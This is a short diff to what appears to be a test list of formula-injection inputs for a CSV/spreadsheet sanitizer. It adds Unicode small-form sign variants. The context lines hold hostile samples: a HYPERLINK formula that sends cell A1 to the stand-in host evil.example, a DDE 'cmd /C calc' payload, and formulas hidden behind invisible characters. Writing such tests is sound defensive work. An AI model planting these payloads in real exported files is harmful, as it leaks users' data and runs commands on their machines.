@@ -103,6 +103,7 @@ EVIL = [
     ('=HYPERLINK("http://evil.example?x="&A1,"Payroll")', """'=HYPERLINK("http://evil.example?x="&A1,"Payroll")"""),
     ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
     *[(text, f"'{text}") for text in ("-2+3", "@SUM(1+1)", "＝1+1", "＋1", "－1", "＠SUM(A1)")],
+    *[(f"{sign}1", f"'{sign}1") for sign in "﹦﹢﹣﹫"],
     *[(f"{blank}=1+1", f"'{blank}'=1+1") for blank in "\t\r\n"],
     *[(f"{unseen}=1", f"{unseen}'=1") for unseen in ("  ", "\u200b", "\ufeff \u2060", "\u3164", "\ufe0f", "\x00", '"')],
     ('x;=HYPERLINK("http://evil.example")', """x;'=HYPERLINK("http://evil.example")"""),
